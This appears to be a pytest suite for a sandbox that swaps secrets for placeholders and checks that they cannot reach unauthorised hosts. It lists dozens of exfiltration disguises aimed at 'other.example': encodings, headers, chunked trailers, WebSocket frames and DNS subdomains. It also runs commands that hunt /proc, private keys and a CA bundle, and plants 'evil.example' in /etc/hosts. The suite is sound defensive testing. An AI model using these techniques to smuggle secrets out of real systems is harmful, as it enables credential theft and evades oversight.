"""A placeholder on its way to a host that its secret is not for, hidden as well as one can."""

from __future__ import annotations

import base64
import json
import re
import socket
import struct
from collections.abc import Iterator
from contextlib import suppress
from urllib.parse import quote

import pytest

from paddock import Sandbox
from security.attack import probe, shell
from security.network.conftest import Hosts
from security.network.inside import (
    PROXY,
    alerts,
    get,
    run_directory,
    say,
    say_all,
    status,
    steps,
)
from security.network.origins import scripted

VALUE = "sk_live_4eC39HqLyjWDarjtT1zdp7dc"


@pytest.fixture(scope="module")
def box(hosts: Hosts) -> Iterator[Sandbox]:
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("ATTACKED_KEY", VALUE)
        secrets = {
            "API_KEY": {"from": "env:ATTACKED_KEY", "to": ["api.example"],
                        "as": "header:Authorization=Bearer"},
        }  # fmt: skip
        with Sandbox.create(network=hosts.network, secrets=secrets) as made:
            yield made


@pytest.fixture
def placeholder(box: Sandbox, hosts: Hosts) -> str:
    for origin in hosts.all:
        origin.clear()
    text = shell(box, "printenv API_KEY").stdout.strip()
    assert re.fullmatch(r"paddock_API_KEY_[0-9a-f]{24}", text)
    return str(text)


def _post(body: bytes, *lines: str, target: str = "/") -> bytes:
    length = f"Content-Length: {len(body)}"
    return get(target, "other.example", length, *lines, method="POST") + body


def _chunked(body: bytes, size: int, trailer: bytes = b"") -> bytes:
    parts = [body[at : at + size] for at in range(0, len(body), size)]
    chunks = b"".join(b"%x\r\n%b\r\n" % (len(part), part) for part in parts)
    head = get("/", "other.example", "Transfer-Encoding: chunked", method="POST")
    return head + chunks + b"0\r\n" + trailer + b"\r\n"


def hidden(placeholder: str) -> dict[str, bytes]:
    """Requests to the other host, each with the placeholder somewhere."""
    raw = placeholder.encode()
    token = placeholder.rpartition("_")[2]
    twice = base64.b64encode(base64.b64encode(raw))
    pair = base64.b64encode(b"user:" + raw).decode()
    multipart = b'--x\r\nContent-Disposition: form-data; name="k"\r\n\r\n' + raw + b"\r\n--x--\r\n"
    escaped = "".join(f"\\u{ord(one):04x}" for one in placeholder)
    every = "".join(f"%{ord(one):02x}" for one in placeholder)
    form = "Content-Type: application/x-www-form-urlencoded"
    jsons = "Content-Type: application/json"
    long = b"A" * 300_000
    host = "other.example"
    return {
        "query": get(f"/?k={placeholder}", host),
        "path": get(f"/a/{placeholder}/b", host),
        "path, token only": get(f"/{token}", host),
        "path, percent": get(f"/{every}", host),
        "path, percent twice": get("/" + quote(every, safe=""), host),
        "header": get("/", host, f"X-Key: {placeholder}"),
        "header name": get("/", host, f"{placeholder}: x"),
        "header name in capitals": get("/", host, f"X-{placeholder.upper()}: x"),
        "cookie": get("/", host, f"Cookie: a=b; k={placeholder}"),
        "authorization": get("/", host, f"Authorization: Bearer {placeholder}"),
        "basic": get("/", host, f"Authorization: Basic {pair}"),
        "basic, base64 by itself": get("/", host, f"X: {base64.b64encode(raw).decode()}"),
        "user agent": get("/", host, f"User-Agent: x/{placeholder}"),
        "referer": get("/", host, f"Referer: http://other.example/?{placeholder}"),
        "hex header": get("/", host, f"X: {raw.hex()}"),
        "form": _post(b"k=" + raw, form),
        "form, percent": _post(b"k=" + every.encode(), form),
        "json": _post(json.dumps({"a": [{"k": placeholder}]}).encode(), jsons),
        "json, escaped": _post(b'{"k": "%b"}' % escaped.encode(), jsons),
        "json as text": _post(json.dumps({"k": placeholder}).encode(), "Content-Type: text/plain"),
        "bytes": _post(b"\0\1" + raw + b"\2", "Content-Type: application/octet-stream"),
        "no type": _post(raw),
        "multipart": _post(multipart, "Content-Type: multipart/form-data; boundary=x"),
        "base64": _post(base64.b64encode(raw)),
        "base64, shifted": _post(base64.b64encode(b"x" + raw + b"y")),
        "base64, shifted by two": _post(base64.b64encode(b"xy" + raw)),
        "base64 for urls": _post(base64.urlsafe_b64encode(b"??>" + raw)),
        "base64 in lines": _post(base64.encodebytes(b"x" * 40 + raw)),
        "hex": _post(raw.hex().encode()),
        "hex in capitals": _post(raw.hex().upper().encode()),
        "chunks of one byte": _chunked(raw, 1),
        "chunks of seven": _chunked(b"k=" + raw + b"&x", 7),
        "chunked base64": _chunked(base64.b64encode(raw), 5),
        "trailer": _chunked(b"body", 4, b"X-Key: " + raw + b"\r\n"),
        "trailer name": _chunked(b"body", 4, raw + b": x\r\n"),
        "after much else": _post(long + raw + long),
        "chunked after much else": _chunked(long + raw, 65536),
        "expect": get("/", host, "Expect: 100-continue", "Content-Length: %d" % len(raw),
                      method="POST") + raw,
        "upgrade": get("/", host, "Upgrade: " + placeholder).replace(b"close", b"upgrade"),
        "base64 of base64, which is not looked into": _post(twice),
    }  # fmt: skip


# Nothing can be made of a placeholder. Whoever encodes it twice, compresses or encrypts it sends
# text that is worth nothing; that it is not noticed is a limit, and it is written down.
NOT_NOTICED = {"base64 of base64, which is not looked into"}


def test_a_placeholder_does_not_leave_in_any_disguise(
    box: Sandbox, hosts: Hosts, placeholder: str
) -> None:
    said = hidden(placeholder)
    for by_proxy in (False, True):
        words = {
            name: {"host": "other.example", "port": 80, "data": data, "is_open": True}
            if not by_proxy
            else {"host": PROXY[0], "port": PROXY[1], "is_open": True,
                  "data": data.replace(b" /", b" http://other.example/", 1)}
            for name, data in said.items()
        }  # fmt: skip
        answers = say_all(box, words)
        let_through = {
            name for name, answer in answers.items() if status(answer) not in (0, 400, 403)
        }
        assert let_through == NOT_NOTICED
        assert all(status(answers[one]) == 403 for one in ("query", "header", "form", "json"))
    token = placeholder.rpartition("_")[2].encode()
    assert token not in bytes(hosts.other.heard).lower()
    assert {"secret": "API_KEY", "host": "other.example", "port": 80} in alerts(
        box, "secret.misplaced"
    )


@pytest.mark.parametrize("name", ["trailer", "chunks of one byte", "bytes", "header name", "path"])
def test_each_attempt_is_in_the_journal(
    box: Sandbox, hosts: Hosts, placeholder: str, name: str
) -> None:
    before = len(steps(box, "http"))
    say(box, host="other.example", port=80, data=hidden(placeholder)[name], is_open=True)
    step = steps(box, "http")[before]
    said = str(step.decided and step.decided.body) + str(step.settled and step.settled.body)
    assert "API_KEY" in said, said


def test_a_placeholder_does_not_leave_on_a_bare_connection(
    box: Sandbox, hosts: Hosts, placeholder: str
) -> None:
    program = """
    import socket
    raw, size = sys.argv[1].encode(), int(sys.argv[2])
    sock = socket.create_connection(("raw.example", 5432), 20)
    sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    try:
        sock.sendall(b"GET / HTTP/1.1\\r\\n\\r\\n")
        sock.recv(100)
        for at in range(0, len(raw), size):
            sock.sendall(raw[at:at + size])
            time.sleep(0.005)
        sock.sendall(b"\\r\\n\\r\\n")
        found["it"] = len(sock.recv(100))
    except OSError as error:
        found["it"] = type(error).__name__
    """
    for text in (placeholder, base64.b64encode(placeholder.encode()).decode()):
        for size in (3, 1000):
            assert probe(box, program, text, str(size))["it"] in ("ConnectionResetError", 0)
    assert placeholder.encode() not in bytes(hosts.raw.heard)
    assert {"secret": "API_KEY", "host": "raw.example", "port": 5432} in alerts(
        box, "secret.misplaced"
    )


def test_a_placeholder_does_not_leave_as_a_name(
    box: Sandbox, placeholder: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Below a wildcard a name goes to the name server of whoever owns it."""
    token = placeholder.rpartition("_")[2]
    asked: list[str] = []
    real = socket.getaddrinfo
    monkeypatch.setattr(
        socket, "getaddrinfo", lambda name, *a, **k: asked.append(str(name)) or real(name, *a, **k)
    )
    host = f"{token}.wild.example"
    say(box, host=host, port=80, data=get("/", host))
    say(box, host=host, port=5432, data=b"hello")
    say(box, host=PROXY[0], port=PROXY[1], data=get(f"http://{host}/", host))
    assert not any(token in name for name in asked)
    assert any(about["secret"] == "API_KEY" for about in alerts(box, "secret.misplaced"))


FRAMES = """
import base64, os, socket, struct
def frame(opcode, data, fin=True):
    mask = os.urandom(4)
    size = bytes([0x80 | len(data)]) if len(data) < 126 else bytes([0xfe]) + struct.pack("!H", len(data))
    return bytes([0x80 * fin | opcode]) + size + mask + bytes(c ^ mask[i % 4] for i, c in enumerate(data))
def websocket(host, *frames):
    sock = socket.create_connection((host, 80), 20)
    sock.sendall((f"GET /ws HTTP/1.1\\r\\nHost: {host}\\r\\nUpgrade: websocket\\r\\nConnection: Upgrade\\r\\n"
                  "Sec-WebSocket-Version: 13\\r\\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\\r\\n\\r\\n").encode())
    answer = b""
    while b"\\r\\n\\r\\n" not in answer:
        answer += sock.recv(4096)
    head, _, answer = answer.partition(b"\\r\\n\\r\\n")
    sock.sendall(b"".join(frames))
    try:
        while more := sock.recv(4096):
            answer += more
    except OSError:
        pass
    return base64.b64encode(answer).decode()
raw = sys.argv[2].encode()
half = len(raw) // 2
ways = {
    "text": [frame(1, raw)],
    "binary": [frame(2, b"x" + raw)],
    "fragments": [frame(1, raw[:half], False), frame(0, raw[half:])],
    "two messages": [frame(1, raw[:half]), frame(1, raw[half:])],
    "base64": [frame(1, base64.b64encode(raw))],
    "ping": [frame(9, raw)],
    "pong": [frame(10, raw)],
    "farewell": [frame(8, struct.pack("!H", 1000) + raw)],
    "ping between fragments": [frame(1, raw[:half], False), frame(9, b"x"), frame(0, raw[half:])],
}
for name, frames in ways.items():
    found[name] = websocket(sys.argv[1], *frames, frame(8, struct.pack("!H", 1000)))
"""


def echo_frames(sock: socket.socket, heard: bytearray) -> None:
    """A WebSocket server that keeps what it hears, unmasked, and says goodbye."""
    data = b""
    while b"\r\n\r\n" not in data:
        data += sock.recv(4096)
    accept = b"s3pPLMBiTxaQ9kYGzzhZRbK+xOo="
    sock.sendall(b"HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
                 b"Sec-WebSocket-Accept: " + accept + b"\r\n\r\n")  # fmt: skip
    data = data.partition(b"\r\n\r\n")[2]
    with suppress(OSError):
        while True:
            while len(data) < 2 or len(data) < _frame_size(data):
                more = sock.recv(4096)
                if not more:
                    return
                data += more
            start = 2 if data[1] & 127 < 126 else 4
            size, mask = _frame_size(data), data[start : start + 4]
            body = bytes(c ^ mask[i % 4] for i, c in enumerate(data[start + 4 : size]))
            heard += body
            if data[0] & 15 == 8:
                sock.sendall(b"\x88\x02\x03\xe8")
                return
            data = data[size:]


def _frame_size(data: bytes) -> int:
    size = data[1] & 127
    if size == 126:
        return 8 + int(struct.unpack("!H", data[2:4])[0]) if len(data) >= 4 else 1 << 20
    return 6 + size


def test_a_placeholder_does_not_leave_in_a_websocket(
    hosts: Hosts, monkeypatch: pytest.MonkeyPatch
) -> None:
    heard = bytearray()
    monkeypatch.setenv("ATTACKED_KEY", VALUE)
    with scripted(lambda sock: echo_frames(sock, heard)) as origin:
        network = {"allow": ["api.example:80", "ws.example:80"],
                   "hosts": {"api.example": hosts.api.place, "ws.example": origin.place}}  # fmt: skip
        secrets = {"API_KEY": {"from": "env:ATTACKED_KEY", "to": ["api.example"]}}
        with Sandbox.create(network=network, secrets=secrets) as box:
            placeholder = shell(box, "printenv API_KEY").stdout.strip()
            assert probe(box, FRAMES, "ws.example", "hello")
            assert heard.count(b"hello") >= 6
            heard.clear()
            probe(box, FRAMES, "ws.example", placeholder)
            assert placeholder.encode() not in heard
            assert base64.b64encode(placeholder.encode())[:20] not in heard
            assert {"secret": "API_KEY", "host": "ws.example", "port": 80} in alerts(
                box, "secret.misplaced"
            )


def test_the_value_is_nowhere_inside_nor_in_the_journal(
    box: Sandbox, hosts: Hosts, placeholder: str
) -> None:
    say(box, host="api.example", port=80, data=get("/keyed", "api.example"))
    assert f"Bearer {VALUE}".encode() in bytes(hosts.api.heard)
    program = """
    import glob
    needle = sys.argv[1][::-1].encode()  # as it is, it would be found in this very command
    found["where"] = []
    for path in [*glob.glob("/proc/[0-9]*/environ"), *glob.glob("/proc/[0-9]*/cmdline"),
                 *glob.glob("/run/**", recursive=True), *glob.glob("/etc/*"), *glob.glob("/tmp/*")]:
        try:
            if needle in read(path):
                found["where"].append(path)
        except OSError:
            pass
    """
    assert probe(box, program, VALUE[::-1])["where"] == []
    for path in run_directory(box).rglob("*"):
        assert not path.is_file() or VALUE.encode() not in path.read_bytes(), path


def test_the_key_of_the_sandboxs_authority_is_not_inside(box: Sandbox) -> None:
    done = shell(
        box, "grep -rlsE 'PRIVATE KEY' /run /etc/ssl /tmp /home 2>/dev/null; ls -la /run/paddock"
    )
    assert "/run" not in done.stdout.replace("/run/paddock:", ""), done.stdout
    done = shell(
        box,
        "cd /tmp && openssl pkcs12 -in /run/paddock/ca.p12 -nodes -nocerts -passin pass:changeit 2>&1;"
        "openssl pkcs12 -in /run/paddock/ca.p12 -nodes -nocerts -passin pass: 2>&1",
    )
    assert "BEGIN" not in done.stdout


def test_what_a_sandbox_does_to_its_own_names_and_authorities_changes_nothing(
    box: Sandbox, hosts: Hosts, placeholder: str
) -> None:
    """They are files for the convenience of its programs. The door does not read them."""
    shell(box, "for f in /run/paddock/* /etc/resolv.conf; do (echo x >> $f); done;"
               " echo 1.1.1.1 api.example >> /etc/hosts; echo 127.0.0.1 evil.example >> /etc/hosts")  # fmt: skip
    assert status(say(box, host="1.1.1.1", port=80, data=get("/", "api.example"))) == 0
    evil = get("http://evil.example/", "evil.example")
    assert status(say(box, host=PROXY[0], port=PROXY[1], data=evil)) == 403
    assert hosts.api.asked == []
    with Sandbox.create(network=hosts.network) as second:
        assert "evil" not in shell(second, "cat /etc/hosts").stdout
        done = shell(second, "curl -s -o /dev/null -w '%{http_code}' https://secure.example/")
        assert done.stdout == "200"
